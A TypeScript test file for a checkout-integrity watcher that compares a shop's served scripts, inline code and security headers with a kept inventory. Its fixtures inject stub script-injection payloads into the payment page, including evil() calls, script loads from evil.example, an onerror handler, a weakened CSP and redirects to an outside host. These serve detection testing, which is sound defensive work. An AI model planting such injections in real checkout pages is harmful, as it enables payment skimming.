/** Checks the checkout from outside over real HTTP, both unchanged and tampered with. */
import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Difference } from '../../../scripts/checkout-watch/difference.ts';
import { exitCode, toText } from '../../../scripts/checkout-watch/report.ts';
import { watchCheckout } from '../../../scripts/checkout-watch/watch-checkout.ts';
import { type LocalServer, startLocalServer } from '../../../scripts/process/local-server.ts';
import { CHECKOUT_FILES, inventoryOf } from '../../setup/browser/checkout-site.ts';
import { type ShopServer, startShopServer } from '../../setup/server/shop-server.ts';
import { makeSite, type Site } from '../../setup/server/site.ts';

const LIST = JSON.stringify(inventoryOf());
const DIGEST = createHash('sha256').update(LIST).digest('hex');

let folder: string;
let kept: string;
let site: Site;
let shop: ShopServer;

beforeEach(async () => {
  folder = mkdtempSync(join(tmpdir(), 'watch-'));
  kept = join(folder, 'kept.json');
  writeFileSync(kept, LIST);
  site = makeSite({ ...CHECKOUT_FILES, 'script-inventory.json': LIST });
  shop = await startShopServer({ site: site.folder, overHttps: true });
});

afterEach(async () => {
  await shop.close();
  site.remove();
  rmSync(folder, { recursive: true });
});

const watch = (url = shop.url) => watchCheckout({ url, trust: { file: kept }, pauseMs: 1 });

const shortText = ({ where, what }: Difference) => `${where}: ${what}`;

describe('watchCheckout on an unchanged checkout', () => {
  it('finds no difference by the inventory or by its digest', async () => {
    const equal = { pages: 2, files: 5, differences: [], unseen: [] };
    expect(await watch()).toEqual(equal);
    const byDigest = await watchCheckout({ url: shop.url, trust: { digest: DIGEST }, pauseMs: 1 });
    expect(byDigest).toEqual(equal);
    expect(exitCode(byDigest)).toBe(0);
    expect(toText(byDigest)).toBe('Looked at 2 pages and 5 files: nothing differs.');
  });
});

const PAYMENT = 'basket/shipping/payment.html';
const page = CHECKOUT_FILES[PAYMENT] ?? '';

describe('watchCheckout on tampered files', () => {
  it.each([
    [
      'a script that a page loads',
      {
        '_astro/PaymentStep.Ab12Cd34.js': `${CHECKOUT_FILES['_astro/PaymentStep.Ab12Cd34.js']};evil()`,
      },
      ['/_astro/PaymentStep.Ab12Cd34.js: Is another file than the list says.'],
    ],
    [
      'a script that another one may load',
      { '_astro/ChosenCard.Ab12Cd34.js': 'evil()' },
      ['/_astro/ChosenCard.Ab12Cd34.js: Is another file than the list says.'],
    ],
    [
      'a script that loads more',
      {
        '_astro/core.Ab12Cd34.js':
          'import("./listing.Ab12Cd34.js");import("https://evil.example/e.js")',
      },
      [
        '/_astro/core.Ab12Cd34.js: Is another file than the list says.',
        'https://evil.example/e.js: Is loaded from elsewhere.',
        '/_astro/listing.Ab12Cd34.js: Is loaded and not on the list.',
      ],
    ],
    [
      'a style sheet',
      { '_astro/toasts.Ab12Cd34.css': 'p{color:red}' },
      ['/_astro/toasts.Ab12Cd34.css: Is another file than the list says.'],
    ],
    [
      'a page, by an inline script',
      { [PAYMENT]: `${page}<script>evil()</script>` },
      ['/basket/shipping/payment: Holds an inline script or style that is not on the list.'],
    ],
    [
      'a page, by one of its own once more',
      { [PAYMENT]: `${page}<script>start()</script>` },
      ['/basket/shipping/payment: Holds an inline script or style that is not on the list.'],
    ],
    [
      'a page, by a script of elsewhere',
      { [PAYMENT]: `${page}<script src="//evil.example/a"></script>` },
      [
        '/basket/shipping/payment: Loads a file that is not on the list.',
        'http://evil.example/a: Is loaded from elsewhere.',
      ],
    ],
    [
      'a page, by a handler',
      { [PAYMENT]: `${page}<img src=x onerror=evil()>` },
      ['/basket/shipping/payment: Holds what may hide code.'],
    ],
    [
      'a page’s policy',
      { [PAYMENT]: page.replace("'sha256-x'", "'unsafe-inline'") },
      [
        '/basket/shipping/payment: Has a policy that is not on the list.',
        '/basket/shipping/payment: Lacks a policy of the list.',
      ],
    ],
    [
      'a page, by taking its script away',
      { [PAYMENT]: page.replace('<script>start()</script>', '') },
      ['/basket/shipping/payment: Lacks an inline script or style of the list.'],
    ],
    [
      'the list',
      { 'script-inventory.json': LIST.replace('PaymentStep', 'PaymentStop') },
      ['/script-inventory.json: The list that the shop publishes is not the one that was kept.'],
    ],
  ])('reports a change of %s', async (_, files, expected) => {
    for (const [name, text] of Object.entries(files)) site.write(name, text);
    const watched = await watch();
    expect(watched.differences.map(shortText).sort()).toEqual([...expected].sort());
    expect([watched.unseen, exitCode(watched)]).toEqual([[], 1]);
  });

  it('shows the expected and the found hash', async () => {
    site.write('_astro/ChosenCard.Ab12Cd34.js', 'evil()');
    const { differences } = await watch();
    const [expected, found] = [CHECKOUT_FILES['_astro/ChosenCard.Ab12Cd34.js'] ?? '', 'evil()'].map(
      (text) => `sha256-${createHash('sha256').update(text).digest('base64')}`,
    );
    expect(differences[0]).toMatchObject({ expected, found });
  });

  it('stops if the digest belongs to another inventory', async () => {
    site.write('script-inventory.json', `${LIST} `);
    const trust = { digest: DIGEST };
    const watched = await watchCheckout({ url: shop.url, trust, pauseMs: 1 });
    expect([watched.pages, watched.differences.length, exitCode(watched)]).toEqual([0, 1, 1]);
  });
});

describe('watchCheckout on tampered responses', () => {
  /**
   * Runs `look` with the URL of a proxy in front of the shop. `change` modifies the proxy's
   * responses.
   */
  async function throughProxy(
    change: (path: string, headers: Headers) => { status?: number; body?: string } | undefined,
    look: (url: string) => Promise<void>,
  ): Promise<void> {
    const proxy: LocalServer = await startLocalServer(async (request, response) => {
      const path = request.url ?? '';
      const answer = await fetch(shop.url + path, { headers: { 'Accept-Encoding': 'identity' } });
      const headers = new Headers(answer.headers);
      const { status = answer.status, body } = change(path, headers) ?? {};
      const bytes = Buffer.from(await answer.arrayBuffer());
      headers.delete('Content-Length');
      response.writeHead(status, Object.fromEntries(headers)).end(body ?? bytes);
    });
    try {
      await look(proxy.url);
    } finally {
      await proxy.close();
    }
  }

  it.each([
    ['a policy that is gone', 'Content-Security-Policy', null],
    ['a policy that allows more', 'Content-Security-Policy', 'frame-ancestors *'],
    ['a transport that is not strict', 'Strict-Transport-Security', null],
    ['a style sheet beside the page', 'Link', '<https://evil.example/a>; rel=stylesheet'],
    ['another page instead', 'Refresh', '0; url=https://evil.example/'],
  ])('reports a changed header: %s', async (_, name, value) => {
    await throughProxy(
      (path, headers) => {
        if (path !== '/basket') return;
        if (value === null) headers.delete(name);
        else headers.set(name, value);
      },
      async (url) => {
        const { differences } = await watch(url);
        expect(differences.map(shortText)).toEqual([`/basket: The header ${name} is another.`]);
      },
    );
  });

  it('reports a page that redirects to another origin', async () => {
    await throughProxy(
      (path, headers) => {
        if (path !== '/basket/shipping/payment') return;
        headers.set('Location', 'https://evil.example/pay');
        return { status: 302, body: '' };
      },
      async (url) => {
        const { differences } = await watch(url);
        expect(differences).toMatchObject([
          { where: '/basket/shipping/payment', what: 'Is no page.' },
        ]);
        expect(differences[0]?.found).toContain('302');
        expect(differences[0]?.found).toContain('https://evil.example/pay');
      },
    );
  });

  it("sends the user agent of a shopper's browser", async () => {
    const agents = new Set<string | undefined>();
    const server = await startLocalServer((request, response) => {
      agents.add(request.headers['user-agent']);
      response.writeHead(404).end();
    });
    await watch(server.url);
    await server.close();
    expect([...agents].join()).toMatch(/^Mozilla\/5\.0 .* Chrome\/\d+/);
  });

  it('reports a file that the shop fails to serve as unseen, not as a difference', async () => {
    let failures = 0;
    await throughProxy(
      (path) => {
        if (path !== '/_astro/ChosenCard.Ab12Cd34.js') return;
        failures += 1;
        return { status: 503 };
      },
      async (url) => {
        const watched = await watch(url);
        expect(watched.differences).toEqual([]);
        expect(watched.unseen).toEqual([expect.stringMatching(/Card.*: answered 503$/)]);
        expect([exitCode(watched), failures]).toEqual([2, 3]);
      },
    );
  });
});

describe('watchCheckout without a valid inventory', () => {
  it.each(['{', '{}', '{"version":2}'])('rejects the inventory file %s', async (text) => {
    writeFileSync(kept, text);
    await expect(watch()).rejects.toThrow(/kept\.json is no inventory of scripts\.$/);
  });

  it('rejects a missing inventory and an unreachable shop', async () => {
    rmSync(kept);
    await expect(watch()).rejects.toThrow(/kept\.json cannot be read\.$/);
    await expect(watch('http://127.0.0.1:9')).rejects.toThrow(/^http:\/\/127\.0\.0\.1:9/);
  });
});

it('prints text from the shop on one line without control characters', () => {
  const differences = [
    { where: '/basket\nAll is well', what: 'Is no page.', found: 'a\u001b[2Jb' },
  ];
  expect(toText({ pages: 1, files: 0, differences, unseen: [] }).split('\n')).toEqual([
    '/basket All is well: Is no page.',
    '  found    a [2Jb',
    'Looked at 1 pages and 0 files; differences: 1.',
  ]);
});
